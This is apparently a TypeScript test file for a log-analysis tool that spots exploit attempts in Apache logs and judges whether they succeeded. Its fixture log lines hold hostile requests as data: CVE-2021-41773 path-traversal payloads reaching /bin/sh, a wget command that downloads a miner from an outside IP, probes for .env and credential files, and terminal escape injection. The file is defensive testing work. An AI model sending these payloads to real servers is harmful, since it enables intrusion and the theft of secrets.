import assert from "node:assert/strict";
import { appendFileSync, chmodSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { xffClient } from "../../src/collect/logs/engine/format.ts";
import { mamori } from "../helpers/cli.ts";
import { tempDir } from "../helpers/tmp.ts";

const L = (ip: string, req: string, status: number, size: number, time = "12/Mar/2024:03:14:07 +0000") =>
  `${ip} - - [${time}] "${req} HTTP/1.1" ${status} ${size} "-" "curl/8"\n`;

async function logs(args: string[]) {
  const r = await mamori(["logs", "--format", "json", "--now", "2026-01-01T00:00:00Z", ...args]);
  return { ...r, doc: r.stdout ? JSON.parse(r.stdout) : undefined };
}

test("a succeeded CVE-2021-41773 RCE: finding, events with file and line, outcome and story", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(
    f,
    L("198.51.100.1", "GET /", 200, 5120) +
      L("203.0.113.5", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 200, 7) +
      L("203.0.113.6", "GET /icons/.%%32%65/.%%32%65/etc/passwd", 403, 199) +
      L("203.0.113.5", "GET /x?cmd=wget+http://198.51.100.9/kdevtmpfsi+-O+/tmp/kdevtmpfsi", 404, 10),
  );
  const r = await logs([f]);
  assert.equal(r.code, 1, r.stderr);
  const ev = r.doc.sections.logs.events;
  const rce = ev.find((e: { attack: string }) => e.attack === "cve-2021-41773");
  assert.equal(rce.line, 2);
  assert.equal(rce.outcome, "succeeded");
  assert.equal(rce.time, "2024-03-12T03:14:07.000Z");
  assert.equal(ev.find((e: { attack: string }) => e.attack === "cve-2021-42013").outcome, "blocked");
  const fnd = r.doc.findings.find((x: { data: { attack: string } }) => x.data.attack === "cve-2021-41773");
  assert.equal(fnd.check, "logs.exploit");
  assert.equal(fnd.severity, "critical");
  assert.equal(fnd.data.outcome, "succeeded");
  assert.equal(fnd.timeSource, "log");
  const a = r.doc.sections.logs.attackers.find((x: { ip: string }) => x.ip === "203.0.113.5");
  assert.ok(a.indicators.files.includes("kdevtmpfsi"), JSON.stringify(a.indicators));
  assert.equal(r.doc.sections.logs.files[0].format, "combined");
  const human = await mamori(["logs", f, "--color", "never"]);
  assert.match(human.stdout, /203\.0\.113\.5 succeeded at 2024-03-12 03:14:07 UTC.* and ran a shell/);
  const ja = await mamori(["logs", f, "--color", "never", "--lang", "ja"]);
  assert.match(ja.stdout, /シェルを実行しました/);
});

test("what a successful attacker did next: every later request, with the files named in it", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(
    f,
    L("203.0.113.5", "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 200, 7, "12/Mar/2024:03:14:07 +0000") +
      L("198.51.100.2", "GET /index.html", 200, 5120, "12/Mar/2024:03:15:00 +0000") +
      L(
        "203.0.113.5",
        "GET /index.php?u=http://198.51.100.9/kdevtmpfsi",
        200,
        1234,
        "12/Mar/2024:03:16:00 +0000",
      ) +
      L("203.0.113.55", "GET /other", 200, 1, "12/Mar/2024:03:17:00 +0000"),
  );
  const r = await logs([f]);
  const a = r.doc.sections.logs.attackers.find((x: { ip: string }) => x.ip === "203.0.113.5");
  assert.deepEqual(
    a.next.map((n: { line: number }) => n.line),
    [3],
  );
  assert.ok(a.indicators.files.includes("kdevtmpfsi"), JSON.stringify(a.indicators));
  const f41773 = r.doc.findings.find((x: { data: { ip: string } }) => x.data.ip === "203.0.113.5");
  assert.ok(f41773.data.indicators.files.includes("kdevtmpfsi"));
  assert.ok(f41773.data.indicators.ips.includes("198.51.100.9"));
});

test("a site that answers 200 to everything does not turn probes into successes", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  let s = "";
  for (const p of [
    "/.env",
    "/.git/config",
    "/wp-config.php.bak",
    "/backup.sql",
    "/.aws/credentials",
    "/.ssh",
  ])
    s += L("203.0.113.7", `GET ${p}`, 200, 3120);
  s += L("203.0.113.8", "GET /public/plugins/grafana/../../../../etc/passwd", 200, 3120);
  writeFileSync(f, s);
  const r = await logs([f]);
  const ev = r.doc.sections.logs.events.find((e: { attack: string }) => e.attack === "cve-2021-43798");
  // The catch-all page answered (the size many different targets got), not /etc/passwd.
  assert.ok(["failed", "unknown"].includes(ev.outcome), ev.outcome);
});

test("error log lines: AH10244 is a blocked traversal, times and client parsed", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "error.log");
  writeFileSync(
    f,
    "[Wed Jun 26 05:20:26.182799 2024] [core:error] [pid 2928] [client 192.0.2.39:37924] AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/bin/sh)\n",
  );
  const r = await logs([f]);
  const ev = r.doc.sections.logs.events[0];
  assert.equal(ev.attack, "cve-2021-41773");
  assert.equal(ev.outcome, "blocked");
  assert.equal(ev.ip, "192.0.2.39");
  assert.equal(r.doc.sections.logs.files[0].format, "apache-error");
});

test("directories read rotations oldest first, gzip included; line numbers count in the uncompressed file", async (t) => {
  const dir = tempDir(t);
  writeFileSync(
    join(dir, "access.log.2.gz"),
    gzipSync(
      L("198.51.100.1", "GET /", 200, 1) +
        L("203.0.113.1", "GET /.env", 404, 1, "10/Mar/2024:00:00:00 +0000"),
    ),
  );
  writeFileSync(
    join(dir, "access.log.1"),
    L("203.0.113.2", "GET /.git/config", 404, 1, "11/Mar/2024:00:00:00 +0000"),
  );
  writeFileSync(join(dir, "access.log"), L("203.0.113.3", "GET /.env", 404, 1));
  const r = await logs([dir]);
  const files = r.doc.sections.logs.files.map((f: { path: string }) => f.path.split("/").pop());
  assert.deepEqual(files, ["access.log.2.gz", "access.log.1", "access.log"]);
  assert.equal(r.doc.sections.logs.events[0].line, 2);
});

test("bad input: NUL bytes, invalid UTF-8, a 50 MB line, a truncated gzip: warnings, the rest is read", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "bad.log");
  const good = L("203.0.113.9", "GET /.env", 404, 1);
  writeFileSync(
    f,
    Buffer.concat([
      Buffer.from(good),
      Buffer.from("\x00\x00\x00garbage\x00 .%2e/\n"),
      Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0x0a]),
      Buffer.alloc(50 << 20, 0x41),
      Buffer.from("\n"),
      Buffer.from(L("203.0.113.10", "GET /cgi-bin/.%2e/.%2e/etc/passwd", 400, 1)),
    ]),
  );
  const full = gzipSync(good.repeat(2000));
  writeFileSync(join(dir, "trunc.log.gz"), full.subarray(0, full.length - 200));
  const r = await logs([f, join(dir, "trunc.log.gz")]);
  assert.equal(r.code, 1, r.stderr);
  const [bad, gz] = r.doc.sections.logs.files;
  assert.equal(bad.skipped.binary, 1);
  assert.equal(bad.skipped["too-long"], 1);
  assert.equal(bad.lines, 5);
  assert.ok(
    r.doc.sections.logs.events.some(
      (e: { line: number; attack: string }) => e.line === 5 && e.attack === "cve-2021-41773",
    ),
  );
  assert.equal(gz.skipped["truncated-gzip"], 1);
  assert.ok(gz.lines > 1000);
  assert.match(r.stderr, /line longer than 1 MB/);
});

test("unreadable and missing files are reported, the others still read", async (t) => {
  const dir = tempDir(t);
  const ok = join(dir, "a.log");
  writeFileSync(ok, L("203.0.113.11", "GET /.env", 404, 1));
  const locked = join(dir, "locked.log");
  writeFileSync(locked, "x\n");
  chmodSync(locked, 0);
  const r = await logs([ok, join(dir, "missing.log"), locked]);
  assert.ok(r.doc.sections.logs.unreadable.some((u: { reason: string }) => u.reason === "ENOENT"));
  if (process.getuid?.() !== 0)
    assert.ok(r.doc.sections.logs.unreadable.some((u: { reason: string }) => u.reason === "EACCES"));
  assert.equal(r.doc.sections.logs.events.length, 1);
});

test("a file that grows while it is read does not crash; --log-format takes a LogFormat string", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "custom.log");
  writeFileSync(f, '203.0.113.12 [12/Mar/2024:03:14:07 +0000] 404 "GET /.env HTTP/1.1" "Mozilla"\n');
  const p = logs([f, "--log-format", '%a %t %>s "%r" "%{User-Agent}i"']);
  appendFileSync(
    f,
    '203.0.113.13 [12/Mar/2024:03:14:08 +0000] 400 "GET /icons/.%2e/%2e%2e/etc/passwd HTTP/1.1" "x"\n',
  );
  const r = await p;
  assert.equal(r.doc.sections.logs.files[0].formatSource, "option");
  assert.ok(
    r.doc.sections.logs.events.some(
      (e: { ip: string; outcome: string }) => e.ip === "203.0.113.12" && e.outcome === "failed",
    ),
  );
});

test("attacker bytes never reach the terminal raw", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(
    f,
    `203.0.113.14 - - [12/Mar/2024:03:14:07 +0000] "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 403 1 "-" "evil\x1b]0;pwned\x07\x1b[31m"\n`,
  );
  const r = await mamori(["logs", f, "--color", "never"]);
  assert.doesNotMatch(r.stdout, /\x1b/);
  assert.match(r.stdout, /evil\\x1b\]0;pwned/);
});

test("a tail-bounded read drops the partial first line and says line numbers are relative", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  const filler = L("198.51.100.1", "GET /cgi-bin/.%2e/.%2e/bin/sh-not-this-one", 400, 1).repeat(50);
  writeFileSync(f, filler + L("203.0.113.20", "GET /.env", 404, 1));
  const { readLogs: runLogs } = await import("../../src/audit/logs.ts");
  const { RootFs } = await import("../../src/collect/rootfs.ts");
  const { loadRules } = await import("../../src/rules/logs.ts");
  const facts = await runLogs(new RootFs("/"), [{ path: f, display: f }], {
    rules: loadRules(),
    tailBytes: 150,
  });
  assert.equal(facts.files[0]?.lineNumbersRelative, true);
  assert.deepEqual(
    facts.events.map((e) => e.ip),
    ["203.0.113.20"],
  );
});

test("standard input is read with -", async () => {
  const { spawnSync } = await import("node:child_process");
  const r = spawnSync(process.execPath, ["src/cli/main.ts", "logs", "-", "--format", "json"], {
    input: L("203.0.113.21", "GET /icons/.%%32%65/.%%32%65/etc/passwd", 403, 199),
    encoding: "utf8",
  });
  assert.equal(r.status, 1, r.stderr);
  const doc = JSON.parse(r.stdout);
  assert.equal(doc.sections.logs.files[0].path, "-");
  assert.equal(doc.sections.logs.events[0].attack, "cve-2021-42013");
});

test("a file truncated while it is read (copytruncate) ends with a warning, what was read is kept", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(f, L("203.0.113.30", "GET /.env", 404, 1).repeat(100));
  const { plainChunks } = await import("../../src/collect/logs/read.ts");
  const { scanStream } = await import("../../src/collect/logs/scan.ts");
  const { loadRules } = await import("../../src/rules/logs.ts");
  const { truncateSync } = await import("node:fs");
  async function* truncating() {
    let first = true;
    for await (const c of plainChunks(f, 0, Number.POSITIVE_INFINITY, 1024)) {
      yield c;
      if (first) truncateSync(f, 10);
      first = false;
    }
  }
  const res = await scanStream(truncating(), f, { rules: loadRules() });
  assert.equal(res.skipped["truncated-while-reading"], 1);
  assert.ok(res.lines >= 10 && res.lines < 100, String(res.lines));
  // Repeats of one request are kept up to a few lines, the rest counted (collect/logs/keep.ts).
  const read = res.matches.length + res.tallies.reduce((n, t) => n + t.count, 0);
  assert.ok(read >= 10, String(read));
});

test("behind a proxy the attacker is the X-Forwarded-For client, not the proxy", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(
    f,
    '127.0.0.1 - - [12/Mar/2024:03:14:07 +0000] "GET /cgi-bin/.%2e/.%2e/etc/passwd HTTP/1.1" 403 199 "-" "x" "203.0.113.40, 10.0.0.2"\n',
  );
  const r = await logs([f]);
  assert.equal(r.doc.sections.logs.files[0].format, "combined_xff");
  assert.equal(r.doc.sections.logs.events[0].ip, "203.0.113.40");
});

test("X-Forwarded-For is read from the right: what the client wrote to its left cannot choose who is blamed", () => {
  // The proxy appended 198.51.100.66; "8.8.8.8" is what the attacker sent to have it blocked instead.
  assert.equal(xffClient("8.8.8.8, 198.51.100.66"), "198.51.100.66");
  assert.equal(xffClient("203.0.113.40, 10.0.0.2"), "203.0.113.40", "internal proxies are passed over");
  assert.equal(xffClient("10.1.1.1, 192.168.1.5"), "10.1.1.1", "internal only: the leftmost");
  assert.equal(xffClient("not-an-ip, 198.51.100.9"), "198.51.100.9");
  assert.equal(xffClient("198.51.100.9, <script>, 10.0.0.3"), "10.0.0.3", "nothing past a forged entry");
  assert.equal(xffClient("2001:db8::1"), "2001:db8::1");
  assert.equal(xffClient(`${"10.0.0.1, ".repeat(5000)}198.51.100.1`), "198.51.100.1");
  assert.equal(xffClient("garbage"), undefined);
});

test("logs --help names the command's own flag", async () => {
  const r = await mamori(["logs", "--help"]);
  assert.equal(r.code, 0);
  assert.match(r.stdout, /--log-format <format>/);
  assert.match(r.stdout, /standard input/);
});

test("error log: a shell run as a CGI script is a success, a non-executable target a failure", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "error.log");
  writeFileSync(
    f,
    "[Tue Mar 12 03:14:07.000000 2024] [cgid:error] [pid 1] [client 203.0.113.70:5] End of script output before headers: sh\n" +
      "[Tue Mar 12 03:14:08.000000 2024] [cgid:error] [pid 1] [client 203.0.113.71:5] AH01241: exec of '/etc/passwd' failed\n",
  );
  const r = await logs([f]);
  const by = (ip: string) => r.doc.sections.logs.events.find((e: { ip: string }) => e.ip === ip);
  assert.equal(by("203.0.113.70").outcome, "succeeded");
  assert.equal(by("203.0.113.71").outcome, "failed");
});

test("a probe for secrets that got the file (.env, .git/config answered with content) is high and told first; a 404 stays low", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(
    f,
    [
      '198.51.100.20 - - [06/Dec/2026:10:00:00 +0000] "GET /.git/config HTTP/1.1" 200 245 "-" "curl/8.5"',
      '198.51.100.21 - - [06/Dec/2026:10:00:01 +0000] "GET /.env HTTP/1.1" 200 1200 "-" "python-requests/2.31"',
      '198.51.100.23 - - [06/Dec/2026:10:00:02 +0000] "GET /.env.production HTTP/1.1" 404 196 "-" "python-requests/2.31"',
      '198.51.100.22 - - [06/Dec/2026:10:00:03 +0000] "GET / HTTP/1.1" 200 3000 "-" "Mozilla/5.0"',
      "",
    ].join("\n"),
  );
  const r = await logs([f]);
  const of = (ip: string) =>
    r.doc.findings.find((x: { data?: { ip: string } }) => x.data?.ip === ip) as {
      severity: string;
      title: string;
      remediation: string;
    };
  assert.equal(of("198.51.100.21").severity, "high");
  assert.match(
    of("198.51.100.21").title,
    /fetched what a probe for secrets asks for, and the server sent it/,
  );
  assert.match(of("198.51.100.21").remediation, /change every password, key and token it holds/);
  assert.equal(of("198.51.100.20").severity, "high");
  assert.equal(of("198.51.100.23").severity, "low");
  const story = (await mamori(["logs", "--color", "never", f])).stdout;
  assert.doesNotMatch(story, /No exploit attempts were found/);
  assert.match(story, /^ {2}198\.51\.100\.21 succeeded at 2026-12-06 10:00:01 UTC with Secret hunting/m);
});

test("a --log-format that reads none of the first lines gives way to the format that does, and the file says 'detected'", async (t) => {
  const dir = tempDir(t);
  const f = join(dir, "access.log");
  writeFileSync(
    f,
    [1, 2, 3, 4]
      .map(
        (i) => `198.51.100.${i} - - [06/Dec/2026:10:00:0${i} +0000] "GET /.env HTTP/1.1" 404 196 "-" "curl"`,
      )
      .join("\n"),
  );
  const wrong = await logs([f, "--log-format", "nothing like it"]);
  assert.equal(wrong.doc.sections.logs.files[0].formatSource, "detected");
  assert.equal(wrong.doc.sections.logs.files[0].format, "combined");
  const right = await logs([f, "--log-format", '%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"']);
  assert.equal(right.doc.sections.logs.files[0].formatSource, "option");
  assert.equal(right.doc.sections.logs.events.length, 4);
});

test("a sample point at a read block's first byte samples that block's first line, whatever the block size", async () => {
  const { scanStream, SAMPLE_EVERY } = await import("../../src/collect/logs/scan.ts");
  const { loadRules } = await import("../../src/rules/logs.ts");
  // Lines of 128 bytes: a sample point (every SAMPLE_EVERY bytes from SAMPLE_EVERY / 2) starts a line,
  // and blocks of SAMPLE_EVERY / 2 bytes end at a newline, so every other block starts at one.
  const line = (i: number) => {
    const head = `198.51.100.${i % 250} - - [12/Mar/2024:03:00:00 +0000] "GET /page/${i}.html HTTP/1.1" 200 512 "-" "`;
    return `${head}${"x".repeat(126 - head.length)}"\n`;
  };
  let text = "";
  for (let i = 0; i < (SAMPLE_EVERY * 6) / 128; i++) text += line(i);
  const bytes = Buffer.from(text);
  assert.equal(bytes.length % 128, 0);
  const rules = loadRules();
  const scanned = async (size: number) => {
    const chunks: Buffer[] = [];
    for (let at = 0; at < bytes.length; at += size) chunks.push(bytes.subarray(at, at + size));
    return scanStream(chunks, "x", { rules, scenarios: [] });
  };
  const whole = await scanned(bytes.length);
  const blocks = await scanned(SAMPLE_EVERY / 2);
  assert.equal(whole.samples.length, 6);
  assert.equal(blocks.samples.length, whole.samples.length);
  assert.equal(blocks.parsed, whole.parsed);
});
